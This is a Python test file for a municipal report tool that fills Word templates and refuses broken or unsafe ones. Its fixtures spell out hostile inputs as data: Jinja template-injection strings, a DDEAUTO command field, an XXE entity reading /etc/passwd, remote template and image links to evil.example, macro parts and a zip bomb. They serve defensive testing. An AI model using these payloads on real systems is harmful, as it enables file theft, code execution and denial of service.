"""A city's own Word template: filled with fields and blocks, and refused where it is broken or unsafe."""

import io
import zipfile
from collections.abc import Callable

import docx
import pytest

from civicard.kernel.exact import Fraction
from civicard.kernel.refusal import Refusal
from civicard.reports.charts import points_lost
from civicard.reports.document import Cell, Chart, Column, Document, Heading, Paragraph, Table
from civicard.reports.template import fill_template

FIELDS: dict[str, object] = {
    "total": Fraction("82.50"),
    "grade": "良<&>",
    "rows": [{"code": "A11", "points": Fraction(1)}, {"code": "C11", "points": Fraction(2)}],
}
RELATION = '<Relationship Id="rId99" Type="{kind}" Target="{target}"{mode}/></Relationships>'
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def body(origin: str = "") -> Document:
    table = Table(columns=(Column(width=1), Column(width=2)), rows=((Cell(text="甲"), Cell(text="乙")),) * 2)
    option = points_lost([("C11", "制卡数量", Fraction(2), Fraction(12))])
    return Document(
        title="某市绩效评价报告",
        origin_mark=origin,
        blocks=(
            Heading(level=1, text="一、基本情况"),
            Paragraph(text="第一节的话。"),
            Heading(level=1, text="二、评价结论"),
            table,
            Chart(option=option, caption="图 1", alt="失分"),
        ),
    )


def template(*paragraphs: str, footer: str = "") -> bytes:
    word = docx.Document()
    for text in paragraphs:
        word.add_paragraph(text)
    word.sections[0].footer.paragraphs[0].text = footer
    saved = io.BytesIO()
    word.save(saved)
    return saved.getvalue()


def with_parts(archive: bytes, change: Callable[[dict[str, bytes]], None]) -> bytes:
    """Return a copy of an archive whose parts were changed."""
    with zipfile.ZipFile(io.BytesIO(archive)) as opened:
        parts = {name: opened.read(name) for name in opened.namelist()}
    change(parts)
    saved = io.BytesIO()
    with zipfile.ZipFile(saved, "w", zipfile.ZIP_DEFLATED) as written:
        for name, content in parts.items():
            written.writestr(name, content)
    return saved.getvalue()


def with_relation(kind: str, target: str, *, external: bool) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    line = RELATION.format(kind=kind, target=target, mode=mode).encode()

    def change(parts: dict[str, bytes]) -> None:
        name = "word/_rels/document.xml.rels"
        parts[name] = parts[name].replace(b"</Relationships>", line)

    return with_parts(template("{{ total }}"), change)


def in_document(old: str, new: str) -> bytes:
    def change(parts: dict[str, bytes]) -> None:
        parts["word/document.xml"] = parts["word/document.xml"].replace(old.encode(), new.encode())

    return with_parts(template("甲"), change)


def without(name: str) -> bytes:
    def change(parts: dict[str, bytes]) -> None:
        del parts[name]

    return with_parts(template("甲"), change)


def refused(content: bytes, code: str) -> Refusal:
    with pytest.raises(Refusal) as caught:
        fill_template(content, FIELDS, body())
    assert caught.value.code == code, str(caught.value.text)
    assert caught.value.text.zh
    assert caught.value.text.en
    return caught.value


def test_fields_loops_and_blocks_are_filled_in() -> None:
    content = template(
        "{{ title }}：{{ total }} 分，{{ grade }}",
        "{% for row in rows %}{{ row.code }} {{ row.points }}；{% endfor %}",
        "{{p section_1 }}",
        "以下全文",
        "{{p body }}",
        footer="{{ grade|upper }}",
    )
    word = docx.Document(io.BytesIO(fill_template(content, FIELDS, body())))
    lines = [paragraph.text for paragraph in word.paragraphs]
    assert lines[0] == "某市绩效评价报告：82.5 分，良<&>"
    assert lines[1] == "A11 1；C11 2；"
    assert lines.count("一、基本情况") == 2
    assert lines.count("二、评价结论") == 1
    assert not any("civicard-spot" in line for line in lines)
    assert word.sections[0].footer.paragraphs[0].text == "良<&>"
    assert (len(word.tables), len(word.inline_shapes)) == (1, 1)
    styles = {paragraph.text: paragraph.style.name for paragraph in word.paragraphs if paragraph.style}
    assert styles["一、基本情况"] == "Heading 1"
    assert styles["第一节的话。"] == "公文正文"


def test_the_body_may_stand_in_a_cell_and_then_fits_its_width() -> None:
    word = docx.Document()
    word.add_table(1, 2).cell(0, 1).text = "{{p body }}"
    saved = io.BytesIO()
    word.save(saved)
    filled = docx.Document(io.BytesIO(fill_template(saved.getvalue(), FIELDS, body())))
    cell = filled.tables[0].cell(0, 1)
    assert cell.paragraphs[0].text == "一、基本情况"
    (inner,) = cell.tables[0]._tbl.xpath("./w:tblPr/w:tblW/@w:w")  # noqa: SLF001 - python-docx gives the XML no other way
    (outer,) = cell._tc.xpath("./w:tcPr/w:tcW/@w:w")  # noqa: SLF001 - python-docx gives the XML no other way
    assert 0 < int(inner) <= int(outer)


def test_a_filled_template_is_the_same_bytes_each_time() -> None:
    content = template("{{ title }}", "{{p body }}")
    assert fill_template(content, FIELDS, body()) == fill_template(content, FIELDS, body())


def test_the_mark_of_origin_is_printed_though_the_template_forgets_it() -> None:
    filled = docx.Document(io.BytesIO(fill_template(template("甲"), FIELDS, body(origin="模拟数据"))))
    assert "模拟数据" in filled.sections[0].header.paragraphs[0].text


def test_text_of_a_field_is_never_read_as_an_expression() -> None:
    fields = {**FIELDS, "grade": "{{ total }}{% include 'x' %}"}
    filled = docx.Document(io.BytesIO(fill_template(template("{{ grade }}"), fields, body())))
    assert filled.paragraphs[0].text == "{{ total }}{% include 'x' %}"


def test_an_unknown_field_is_named_with_the_nearest_and_all_known_ones() -> None:
    refusal = refused(template("{{ totl }}"), "template_field_unknown")
    assert "“totl”" in refusal.text.zh
    assert "“total”" in refusal.text.en
    assert all(name in refusal.text.zh for name in ("grade", "rows", "section_2", "title"))


@pytest.mark.parametrize("text", ["{{ rows[0].kode }}", "{{ section_9 }}", "{{ cycler }}"])
def test_what_is_not_there_is_unknown(text: str) -> None:
    refused(template(text), "template_field_unknown")


@pytest.mark.parametrize(
    "text",
    [
        "{{ total.__class__.__mro__ }}",
        "{% include '/etc/passwd' %}",
        "{% import 'x' as y %}",
        "{{ 'a' * 1000000000 }}",
        "{{ 'a' ** 9 }}",
        "{{ '%999999999d' % 1 }}",
        "{{ self }}",
        "{% set a = 'x' %}{{ a }}",
        "{% macro m() %}{% endmacro %}",
        "{{ grade.upper() }}",
        "{% for a in 'abc' %}{% endfor %}",
    ],
)
def test_an_expression_that_does_more_than_fill_in_is_unsafe(text: str) -> None:
    refused(template(text), "template_unsafe")


@pytest.mark.parametrize("text", ["{{ total", "{% if total %}甲", "{{ total|foo }}", "文字 {{ body }}"])
def test_an_expression_that_cannot_be_read_is_refused(text: str) -> None:
    refused(template(text), "template_unreadable")


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"PK\x03\x04nothing",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 locked",
        "纯文本".encode(),
        template("甲")[:4000],
        without("word/document.xml"),
        in_document("<w:body>", "<w:body"),
    ],
    ids=["empty", "no zip", "locked", "text", "cut off", "no document", "broken xml"],
)
def test_what_is_no_readable_docx_is_refused(content: bytes) -> None:
    refused(content, "template_unreadable")


def test_a_template_with_macros_is_unsafe() -> None:
    refused(
        with_parts(template("甲"), lambda parts: parts.update({"word/vbaProject.bin": b"x"})),
        "template_unsafe",
    )

    def as_docm(parts: dict[str, bytes]) -> None:
        name = "[Content_Types].xml"
        plain = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
        parts[name] = parts[name].replace(plain, b"application/vnd.ms-word.document.macroEnabled.main+xml")

    refused(with_parts(template("甲"), as_docm), "template_unsafe")


@pytest.mark.parametrize(
    ("kind", "target", "external"),
    [
        ("attachedTemplate", "http://evil.example/x.dotm", True),
        ("image", "http://evil.example/x.png", True),
        ("image", "file:///etc/passwd", True),
        ("oleObject", "embeddings/x.bin", False),
        ("aFChunk", "afchunk.html", False),
    ],
)
def test_a_template_that_reaches_outside_is_unsafe(kind: str, target: str, *, external: bool) -> None:
    refused(with_relation(OFFICE + kind, target, external=external), "template_unsafe")


def test_a_plain_link_is_nothing_to_refuse() -> None:
    assert fill_template(
        with_relation(OFFICE + "hyperlink", "https://city.example/", external=True), FIELDS, body()
    )


@pytest.mark.parametrize(
    "new",
    [
        '<w:r><w:instrText> INCLUDE</w:instrText></w:r><w:r><w:instrText>TEXT "c:\\x"</w:instrText></w:r><w:r><w:t>甲',
        '<w:fldSimple w:instr=" DDEAUTO cmd "/><w:r><w:t>甲',
    ],
)
def test_a_field_that_reads_elsewhere_is_unsafe(new: str) -> None:
    refused(in_document("<w:r><w:t>甲", new), "template_unsafe")


def test_a_document_type_is_unsafe() -> None:
    entity = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document'
    refused(in_document("<w:document", entity), "template_unsafe")


def test_a_template_that_unpacks_to_too_much_is_unsafe() -> None:
    bomb = with_parts(
        template("甲"), lambda parts: parts.update({"word/media/x.bin": bytes(51 * 1024 * 1024)})
    )
    assert len(bomb) < 1024 * 1024
    refused(bomb, "template_unsafe")
